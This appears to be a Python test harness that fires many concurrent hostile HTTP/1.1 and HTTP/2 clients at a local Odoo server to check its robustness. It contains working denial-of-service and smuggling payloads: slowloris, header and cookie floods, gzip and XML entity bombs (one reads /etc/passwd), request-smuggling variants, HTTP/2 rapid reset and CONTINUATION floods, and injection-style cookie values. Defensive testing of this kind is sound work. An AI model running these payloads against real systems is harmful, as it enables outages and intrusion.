#!/usr/bin/env python3
"""Clients that mean harm, all at once, for a number of seconds.

    hostile.py --port PORT --seconds SECONDS --session ID --crowd N

ID is a session that is logged in: an insider's. What such a client has Odoo write, it writes to
res.partner.category, so that a test can hold the trail against what Odoo executed. Prints one JSON
object at the end: {attack: {answer: times}}, where an answer is a status, "closed" (without one) or
"sent" (none was awaited).
"""

import argparse
import asyncio
import collections
import gzip
import itertools
import json
import os
import random
import struct

CALL = "/web/dataset/call_kw"
ANSWER_SECONDS = 20
PAUSE_SECONDS = 0.05
ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__] = function
    return function


# ---- what is sent ----


def call(values, method="write", ids=(1,)):
    params = {"model": "res.partner.category", "method": method, "args": [list(ids), values], "kwargs": {}}
    return json.dumps({"jsonrpc": "2.0", "method": "call", "id": 1, "params": params}).encode()


def head(target, *headers, path=CALL, method="POST", cookie=True, kind="application/json"):
    lines = [f"{method} {path} HTTP/1.1", "Host: localhost", f"Content-Type: {kind}", *headers]
    if cookie:
        lines.append(f"Cookie: session_id={target.session}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def request(target, body, *headers, **options):
    return head(target, f"Content-Length: {len(body)}", "Connection: close", *headers, **options) + body


def chunk(data):
    return b"%x\r\n%s\r\n" % (len(data), data)


def colliding_keys(count):
    """Words of one length that are alike to every hash of the kind h * 33 + c."""
    return ["".join(word) for word in itertools.islice(itertools.product(("Ez", "FY"), repeat=14), count)]


# ---- how it is sent ----


async def read_status(reader):
    try:
        line = await asyncio.wait_for(reader.readline(), ANSWER_SECONDS)
    except (OSError, asyncio.TimeoutError, ValueError):
        return "closed"
    words = line.split()
    return words[1].decode("latin-1") if len(words) > 1 and words[0].startswith(b"HTTP/") else "closed"


async def exchange(target, *pieces, pause=0.0, awaited=True):
    """Sends the pieces one by one on a connection of its own; answers the first status."""
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
    except OSError:
        return "closed"
    try:
        for piece in pieces:
            writer.write(piece)
            await asyncio.wait_for(writer.drain(), ANSWER_SECONDS)
            await asyncio.sleep(pause)
        return await read_status(reader) if awaited else "sent"
    except (OSError, asyncio.TimeoutError):
        return await read_status(reader)
    finally:
        writer.transport.abort()


# ---- slow, half, many ----


@attack
async def slow_head(target):
    return await exchange(target, b"POST / HTTP/1.1\r\n", *[b"X-A: b\r\n"] * 30, pause=0.3)


@attack
async def slow_body(target):
    body = call({"name": "slow" * 20})
    return await exchange(target, head(target, f"Content-Length: {len(body)}"),
                          *[bytes([byte]) for byte in body], pause=0.1)


@attack
async def half_body(target):
    body = call({"name": "half" * random.choice((10, 20000))})
    return await exchange(target, head(target, f"Content-Length: {len(body)}"), body[: len(body) // 2], awaited=False)


@attack
async def half_chunk(target):
    body = call({"name": "chunk"})
    return await exchange(target, head(target, "Transfer-Encoding: chunked"), chunk(body), b"ffffff\r\nx", awaited=False)


@attack
async def whole_body_no_reader(target):
    return await exchange(target, request(target, call({"name": "unread"})), awaited=False)


@attack
async def crowd(target):
    """Hundreds of connections that say nothing, or a little."""
    answers = await asyncio.gather(*[
        exchange(target, random.choice((b"", b"G", b"GET / HTTP/1.1\r\n")), pause=1.0, awaited=False)
        for _ in range(target.crowd)])
    return answers[0]


# ---- floods ----


@attack
async def header_flood(target):
    return await exchange(target, request(target, b"", *[f"X-{n}: {'a' * 200}" for n in range(5000)]))


@attack
async def long_header(target):
    return await exchange(target, request(target, b"", "X-Long: " + "a" * 1_000_000))


@attack
async def cookie_flood(target):
    cookies = "; ".join(f"session_id={random.getrandbits(160):040x}" for _ in range(140))
    return await exchange(target, request(target, call({"name": "forged"}), "Cookie: " + cookies, cookie=False))


@attack
async def cookie_lines(target):
    lines = [f"Cookie: session_id={random.getrandbits(160):040x}" for _ in range(80)]
    return await exchange(target, request(target, call({"name": "forged"}), *lines, cookie=False))


@attack
async def forged_cookie(target):
    forged = random.choice((
        f"{random.getrandbits(160):040x}", "a" * 4000, '"\\015\\012X: y"', "\x80\xff", target.session[:-1],
        target.session.upper() + "x", target.session + "%00", "' OR 1=1 --", "../../etc/passwd", "=;=;="))
    return await exchange(target, request(target, call({"name": "forged"}), f"Cookie: session_id={forged}", cookie=False))


@attack
async def long_path(target):
    path = random.choice(("/" + "a" * 8000, "/" + "%2e%2e/" * 1000, "/web/dataset/call_kw/" + "%25" * 2000, "/" * 7000,
                          "/web/dataset/call_kw/res.partner/write?" + "a=b&" * 1900))
    return await exchange(target, request(target, b"", path=path))


@attack
async def refused_login(target):
    body = json.dumps({"params": {"db": "odoo", "login": "x" * random.choice((1, 100_000)), "password": "wrong"}}).encode()
    return await exchange(target, request(target, body, path="/web/session/authenticate", cookie=False))


# ---- bodies ----


@attack
async def deep_json(target):
    depth = random.choice((1000, 100_000, 1_000_000))
    opening = random.choice(('[', '{"a":'))
    return await exchange(target, request(target, b'{"params":' + opening.encode() * depth))


@attack
async def deep_values(target):
    return await exchange(target, request(target, call({"name": "deep", "x": "@"}).replace(
        b'"@"', b"[" * 900 + b"1" + b"]" * 900)))


@attack
async def endless_json(target):
    piece = chunk(random.choice((b" ", b"[1,", b'"', b"\\u0000", b"9")) * 21_000)
    return await exchange(target, head(target, "Transfer-Encoding: chunked"), chunk(b'{"params":{"args":["'),
                          *[piece] * 30, awaited=False)


@attack
async def colliding_json(target):
    return await exchange(target, request(target, call(dict.fromkeys(colliding_keys(4096), "a"))))


@attack
async def duplicate_keys(target):
    twice = call({"name": "one"})[:-1] + b"," + call({"name": "two"})[1:]
    return await exchange(target, request(target, twice))


@attack
async def bad_text(target):
    body = call({"name": "@"}).replace(b"@", random.choice((b"\xff\xfe", b"\\ud800", b"\\u0000", b"\xc0\x80", b"\xed\xa0\x80")))
    return await exchange(target, request(target, body))


@attack
async def huge_call(target):
    return await exchange(target, request(target, call({"name": "huge", "image": "QUJD" * 250_000})))


@attack
async def many_ids(target):
    return await exchange(target, request(target, call({"name": "many"}, ids=range(1, 2_000))))


@attack
async def xml_bomb(target):
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE b [<!ENTITY l0 "ha">{entities}<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    body = bomb + "<methodCall><methodName>&l9;&f;</methodName><params/></methodCall>"
    return await exchange(target, request(target, body.encode(), path="/xmlrpc/2/object", kind="text/xml", cookie=False))


@attack
async def deep_xml(target):
    body = b"<methodCall><methodName>execute</methodName><params><param>" + b"<value><array><data>" * 20_000
    return await exchange(target, request(target, body, path="/xmlrpc/2/object", kind="text/xml", cookie=False))


@attack
async def gzip_bomb(target):
    body = target.bomb
    return await exchange(target, request(target, body, "Content-Encoding: gzip"))


@attack
async def multipart_flood(target):
    part = b'--b\r\nContent-Disposition: form-data; name="ufile"; filename="f"\r\n\r\nx\r\n'
    return await exchange(target, request(target, part * 5000, path="/web/binary/upload_attachment",
                                          kind="multipart/form-data; boundary=b"))


# ---- one request that two servers could take for two ----


def hidden(target):
    return request(target, call({"name": "hidden"}))


@attack
async def length_and_chunks(target):
    return await exchange(target, head(target, "Content-Length: 4", "Transfer-Encoding: chunked") + b"0\r\n\r\n" + hidden(target))


@attack
async def two_lengths(target):
    inner = hidden(target)
    return await exchange(target, head(target, "Content-Length: 0", f"Content-Length: {len(inner)}") + inner)


@attack
async def odd_transfer_coding(target):
    coding = random.choice(("xchunked", "chunked, identity", " chunked", "\tchunked", "identity", "chunked\x0b"))
    return await exchange(target, head(target, f"Transfer-Encoding: {coding}", "Content-Length: 0") + b"0\r\n\r\n" + hidden(target))


@attack
async def folded_header(target):
    return await exchange(target, head(target, "Transfer-Encoding:\r\n chunked") + b"0\r\n\r\n" + hidden(target))


@attack
async def bare_line_feeds(target):
    return await exchange(target, (head(target, "Content-Length: 0") + hidden(target)).replace(b"\r\n", b"\n"))


@attack
async def odd_chunk_sizes(target):
    size = random.choice((b"0x10", b"-1", b"+5", b"fffffffffffffffff", b"5;" + b"a" * 9000, b" 5", b"5\n"))
    return await exchange(target, head(target, "Transfer-Encoding: chunked") + size + b"\r\nhello\r\n0\r\n\r\n" + hidden(target))


@attack
async def spaces_before_colon(target):
    return await exchange(target, head(target, "Content-Length : 5", "Transfer-Encoding : chunked") + hidden(target))


@attack
async def noise(target):
    return await exchange(target, os.urandom(random.choice((1, 100, 20_000))))


# ---- HTTP/2, frame by frame ----

DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def field(name, value):
    """A header field as a literal, never indexed; each shorter than 127 bytes."""
    return b"\x10" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def fields(target, **more):
    pairs = {":method": "POST", ":scheme": "http", ":path": CALL, ":authority": "localhost",
             "content-type": "application/json", "cookie": f"session_id={target.session}", **more}
    return b"".join(itertools.starmap(field, pairs.items()))


def opening():
    return PREFACE + frame(SETTINGS, 0, 0)


@attack
async def http2_rapid_reset(target):
    streams = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, fields(target)) + frame(RST_STREAM, 0, stream, CANCEL)
                       for stream in range(1, 400, 2))
    return await exchange(target, opening(), streams, pause=0.1, awaited=False)


@attack
async def http2_reset_in_body(target):
    body = call({"name": "reset"})
    streams = b"".join(frame(HEADERS, END_HEADERS, stream, fields(target)) + frame(DATA, 0, stream, body[:50])
                       + frame(RST_STREAM, 0, stream, CANCEL) for stream in range(1, 40, 2))
    return await exchange(target, opening(), streams, pause=0.1, awaited=False)


@attack
async def http2_reset_after_call(target):
    """Odoo may have it already, and then it is on record."""
    body = call({"name": "reset"})
    return await exchange(target, opening(), frame(HEADERS, END_HEADERS, 1, fields(target)) + frame(DATA, END_STREAM, 1, body),
                          frame(RST_STREAM, 0, 1, CANCEL), pause=random.choice((0.0, 0.02, 0.2)), awaited=False)


@attack
async def http2_endless_headers(target):
    more = [frame(CONTINUATION, 0, 1, field("x-more", "a" * 100) * 80)] * 100
    return await exchange(target, opening(), frame(HEADERS, 0, 1, fields(target)), *more, awaited=False)


@attack
async def http2_noise(target):
    frames = b"".join(frame(random.randrange(12), random.randrange(256), random.randrange(9), os.urandom(random.randrange(64)))
                      for _ in range(50))
    return await exchange(target, opening(), frames, awaited=False)


# ---- all at once ----


async def repeat(target, name, end, answers):
    loop = asyncio.get_running_loop()
    while True:
        answers[name][await ATTACKS[name](target)] += 1
        if loop.time() >= end:
            return
        await asyncio.sleep(PAUSE_SECONDS + random.random() * target.pause)


async def run(target):
    answers = collections.defaultdict(collections.Counter)
    end = asyncio.get_running_loop().time() + target.seconds
    names = list(ATTACKS) + ["slow_body", "slow_head"] * target.slow
    await asyncio.gather(*[repeat(target, name, end, answers) for name in names])
    return answers


def parse_arguments():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--session", required=True)
    parser.add_argument("--crowd", type=int, default=300)
    parser.add_argument("--slow", type=int, default=10, help="how many more slow ones of each kind")
    parser.add_argument("--pause", type=float, default=1.0, help="at most so long between two of a kind")
    return parser.parse_args()


def main():
    target = parse_arguments()
    target.bomb = gzip.compress(bytes(50_000_000))
    print(json.dumps(asyncio.run(run(target))))


if __name__ == "__main__":
    main()
